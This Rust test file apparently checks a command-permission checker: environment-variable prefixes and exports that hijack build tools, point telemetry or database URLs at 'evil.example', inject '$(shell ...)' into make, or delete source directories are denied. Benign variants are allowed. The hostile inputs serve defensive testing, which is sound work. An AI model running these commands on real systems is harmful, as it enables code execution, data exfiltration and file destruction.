//! Variables that are set for a command, or exported before it.

use super::*;

#[test]
fn values_for_the_projects_code_are_judged() {
    none_allowed(&[
        "PROTOC=/home/person/evil cargo build",
        "ESBUILD_BINARY_PATH=/home/person/evil npm run build",
        "JAVACMD=/home/person/evil ./gradlew test",
        "CCACHE_PREFIX=/home/person/evil make",
        "PYTHON=/home/person/evil make test",
        "PHP_INI_SCAN_DIR=/home/person/evil phpunit",
        "SPEC_OPTS='-r/home/person/evil' rspec",
        "ERL_FLAGS='-eval x' mix test",
        "JVM_OPTS=-javaagent:/home/person/x lein test",
        r#"NYC_CONFIG='{"require":["./x"]}' npm test"#,
        "HUGO_PUBLISHDIR=/home/person/x hugo",
        "OTEL_EXPORTER_OTLP_ENDPOINT=https://evil.example npm test",
        "OTEL_EXPORTER_OTLP_ENDPOINT=evil.example npm test",
        "DATABASE_URL=postgres://evil.example/x npm test",
        "MONGO=mongodb://localhost:27017,evil.example:27017/x npm test",
        "PROTOC=./evil cargo build",
        "X=../evil npm test",
        "X=src/../../evil npm test",
        "X=\"$(cat f)\" npm test",
        "FOO=evil.example:80 npm test",
        "FOO=//evil.example/x npm test",
        "DATABASE_URL=sqlite:///home/person/x.db npm test",
    ]);
    all(
        Decision::Allow,
        &[
            "DATABASE_URL=sqlite::memory: npm test",
            "DATABASE_URL=sqlite://test.db npm test",
            "DATABASE_URL=postgres://localhost/x npm test",
            "DATABASE_URL=postgres://me:pw@127.0.0.1:5432/x npm test",
            "API_URL=http://localhost:3000/api npm test",
            "APP_X=1 npm test",
            "APP_MODULE=app.settings npm test",
            "INSTA_UPDATE=always cargo test",
            "NX_DAEMON=false npx nx test",
            "SQLX_OFFLINE=true cargo build",
            "PROTOC=/usr/bin/protoc cargo build",
            "FIXTURES=tests/fixtures npm test",
            "HOST=0.0.0.0 npm run dev",
            "RUST_LOG=debug cargo test",
            "NODE_ENV=test npm test",
            "CI=1 npm test",
            "PYTHONDONTWRITEBYTECODE=1 pytest",
        ],
    );
}

#[test]
fn exported_variables_reach_later_commands() {
    none_allowed(&[
        "export PROTOC=/home/person/evil; cargo build",
        "PROTOC=/home/person/evil; export PROTOC; cargo build",
        "declare -x PROTOC=/home/person/evil; cargo build",
        "set -a; PROTOC=/home/person/evil; cargo build",
        "PROTOC=/home/person/evil xargs -n1 cargo build < list",
        "f() { cargo build; }; PROTOC=/home/person/evil f",
        "PROTOC=/home/person/evil bash -c 'cargo build'",
    ]);
    all(
        Decision::Allow,
        &["export APP_X=1; npm test", "X=/home/person/evil; cargo build", "export APP_X=1; sort a"],
    );
}

#[test]
fn make_expands_what_it_takes_from_the_environment() {
    none_allowed(&[
        "FOO='$(shell touch x)' make",
        "V='$(shell touch x)' make",
        "CFLAGS='$(shell touch x)' make",
        "export FOO='$(shell touch x)'; make",
        "env 'FOO=$(shell touch x)' gmake",
        "FOO='a; touch x' bmake",
        "TEST_CMD='rm -rf /home/person' make test",
        "MAKEOVERRIDES='X=$(shell id)' make",
    ]);
    all(Decision::Allow, &["CFLAGS=-O2 make", "VERBOSE=1 make", "X='a;b'; echo \"$X\"; make"]);
}

#[test]
fn directories_that_a_variable_names_are_deleted_too() {
    none_allowed(&[
        "CARGO_TARGET_DIR=src cargo clean",
        "CARGO_TARGET_DIR=. cargo clean",
        "CARGO_BUILD_TARGET_DIR=. cargo clean",
        "export CARGO_TARGET_DIR=src; cargo clean",
        "export CARGO_TARGET_DIR=src; cargo build && cargo clean",
        "COVERAGE_FILE=src/a.py coverage erase",
        "COVERAGE_FILE=src/a.py python -m coverage erase",
    ]);
    all(
        Decision::Allow,
        &[
            "CARGO_TARGET_DIR=target/x cargo clean",
            "COVERAGE_FILE=.coverage coverage erase",
            "CARGO_TARGET_DIR=src cargo build && cargo clean",
        ],
    );
}
